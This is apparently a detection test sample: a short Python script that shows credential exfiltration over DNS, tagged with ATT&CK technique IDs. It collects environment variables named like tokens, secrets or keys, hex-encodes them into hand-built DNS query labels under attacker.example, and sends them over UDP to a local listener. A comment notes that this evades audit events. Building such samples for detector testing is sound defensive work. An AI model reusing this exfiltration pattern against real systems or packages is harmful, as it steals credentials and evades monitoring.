# technique: T1552.001 T1048.003 T1071.004
# gap: the DNS queries are built by hand and sent with socket.sendto, whose data no audit event carries
"""Unsecured credentials exfiltrated over DNS (T1552.001, T1048.003, T1071.004).

Like the malicious packages that beacon over DNS to avoid HTTP egress
filtering: secret-looking environment variables are hex-encoded and split into
63-byte labels of hand-built DNS query packets sent with socket.sendto over
UDP to a "resolver" (here a loopback UDP listener). No resolver library, no
getaddrinfo: raw DNS wire format built with struct.

A good detector raises a high alert: environment secrets are read and then
leave the process in UDP datagrams.
"""
import os, random, socket, struct, threading

rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
rx.bind(("127.0.0.1", 0)); rx.settimeout(2)
port = rx.getsockname()[1]
def drain():
    try:
        while True: rx.recvfrom(4096)
    except Exception: pass
threading.Thread(target=drain, daemon=True).start()
os.environ.setdefault("NPM_TOKEN", "npm_fakefakefakefakefakefakefakefake00")

def qname(labels):
    return b"".join(bytes([len(l)]) + l for l in labels) + b"\0"

try:
    blob = ";".join(f"{k}={v}" for k, v in os.environ.items()
                    if any(s in k.upper() for s in ("TOKEN", "SECRET", "KEY"))).encode().hex()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(0, len(blob), 60):
        chunk = blob[i:i + 60].encode()
        hdr = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
        pkt = hdr + qname([chunk, str(i).encode(), b"x", b"attacker", b"example"]) + struct.pack(">HH", 16, 1)
        s.sendto(pkt, ("127.0.0.1", port))
    s.close()
except Exception:
    pass
